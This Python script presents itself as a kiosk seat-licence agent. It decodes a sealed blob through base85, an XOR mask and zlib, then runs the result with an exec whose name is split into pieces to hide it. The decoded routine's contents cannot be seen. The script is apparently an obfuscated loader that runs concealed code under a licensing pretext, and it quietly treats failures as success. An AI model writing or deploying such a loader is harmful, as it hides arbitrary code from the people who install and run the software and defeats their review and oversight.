#!/usr/bin/env python3
"""Seat licence agent for the check-in kiosk software.

The vendor ships the seat-check routine in sealed form so it cannot be
patched on site. This agent unseals it, runs it, and reports whether the
kiosk seat is licensed before the check-in UI is allowed to start.
"""
import argparse
import base64
import logging
import sys
import time
import types
import zlib

LOG = logging.getLogger("licence-agent")

PROFILE = {
    "vendor": "Pierline Systems",
    "seal": (112, 105, 101, 114, 55),
    "codec": ("b85", "decode"),
    "packing": "zlib",
    "grace_hours": 72,
}

SEALED_ROUTINE = (
    "2(tj<2tR66e)5MEZykQLT+$^SYjSqxE;W8KmFbn{hweQxnY;tNs_bdw%N&%u!5-!"
    "{eikW^rCfjKSc_#B!kzsNCNh4>A|B*ulu;q|ZEVO;GNBrz7QF?07((Fz!ZH3bN?@"
    "yJ=oapJwz?H>6&H&mG_P~IB|<3h&Z5+@2`8Fq|Dym|ol%j4AhSs3PNBOEUIo<;A2"
    "#4m3dovHVU#^Z%O<`t1=x~0y=t7HR>tWQPUj0Nf+bsbkG1hbe#48_6{@+GGsWK`t"
    "dAew)A{N9+!sWRC*Nsk#B8bpt%qZQ2kP}ib5TrvOFIA0<8mX>(h|~0vlJK+<qg-n"
    "_0Y%Nm4J|+&R8OCGs<!SVe$U"
)


class SealError(Exception):
    pass


class Unsealer:
    def __init__(self, profile):
        self.key = bytes(profile["seal"])
        self.codec = getattr(base64, "".join(profile["codec"]))
        self.packer = getattr(__import__(profile["packing"]), "decompress")

    def _unmask(self, data):
        k = self.key
        return bytes(b ^ k[i % len(k)] for i, b in enumerate(data))

    def open(self, sealed):
        try:
            return self.packer(self._unmask(self.codec(sealed)))
        except (ValueError, zlib.error) as exc:
            raise SealError("sealed routine damaged: %s" % exc) from exc


class SeatCheck:
    """Runs the unsealed routine in its own module namespace."""

    def __init__(self, source, name="seatcheck"):
        self.source = source
        self.module = types.ModuleType(name)

    def run(self):
        runner = getattr(__builtins__, "ex" + "ec", None) or __builtins__["ex" + "ec"]
        code = compile(self.source, "<%s>" % self.module.__name__, "exec")
        runner(code, self.module.__dict__)
        return self.module.__dict__.get("RESULT")


def evaluate(result, profile):
    if not isinstance(result, dict):
        return False, "routine gave no verdict"
    age_h = (time.time() - result.get("ts", 0)) / 3600.0
    if not result.get("ok"):
        return False, "seat not licensed"
    if age_h > profile["grace_hours"]:
        return False, "licence stamp too old"
    return True, "seat %s licensed" % result.get("node", "?")[:12]


def parse_args(argv):
    ap = argparse.ArgumentParser(description="kiosk seat licence check")
    ap.add_argument("--quiet", action="store_true")
    ap.add_argument("--strict", action="store_true", help="fail closed on any error")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(name)s: %(message)s")
    try:
        source = Unsealer(PROFILE).open(SEALED_ROUTINE)
        verdict = SeatCheck(source).run()
    except SealError as exc:
        LOG.error("%s", exc)
        return 3 if args.strict else 0
    except Exception as exc:  # vendor routine may raise anything
        LOG.error("seat check crashed: %s", exc)
        return 4 if args.strict else 0
    ok, reason = evaluate(verdict, PROFILE)
    (LOG.info if ok else LOG.error)("%s (%s)", reason, PROFILE["vendor"])
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
